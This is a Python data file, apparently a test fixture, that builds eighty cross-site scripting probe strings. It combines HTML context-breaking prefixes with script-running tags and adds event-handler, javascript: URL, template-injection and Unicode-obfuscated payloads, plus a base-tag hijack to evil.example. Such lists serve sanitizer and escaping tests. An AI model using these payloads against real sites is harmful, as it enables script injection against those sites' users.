"""Eighty texts that would run something, if a page put them where they do not belong."""

BREAKS = ["", '">', "'>", "</textarea>", "</script>", "</title></style>", "</option></select>", "-->"]
RUNS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "<iframe srcdoc='<script>alert(4)</script>'>",
    "<details open ontoggle=alert(5)>",
    "<input autofocus onfocus=alert(6)>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<body onload=alert(8)>",
]
OTHERS = [
    '" autofocus onfocus="alert(9)',
    "' onmouseover='alert(10)",
    "` onload=`alert(11)",
    "javascript:alert(12)",
    'https://x.example/"onfocus="alert(13)" autofocus="',
    "https://x.example/'><svg onload=alert(14)>",
    "data:text/html,<script>alert(15)</script>",
    "{{ ''|safe }}{% debug %}<script>alert(16)</script>",
    "${alert(17)} #{alert(17)} [[constructor.constructor('alert(17)')()]]",
    "<a href='javascript:alert(18)' autofocus>नाम</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(19)'>",
    "<base href='//evil.example/'>",
    "\u202e<script>alert(20)</script>\u202c",
    '\u2066"><img src=x onerror=alert(21)>\u2069',
    "<scr\u200bipt>alert(22)</scr\u00adipt>",
    "＜script＞alert(23)＜/script＞",
]
PAYLOADS = [f"{out}{run}" for out in BREAKS for run in RUNS] + OTHERS
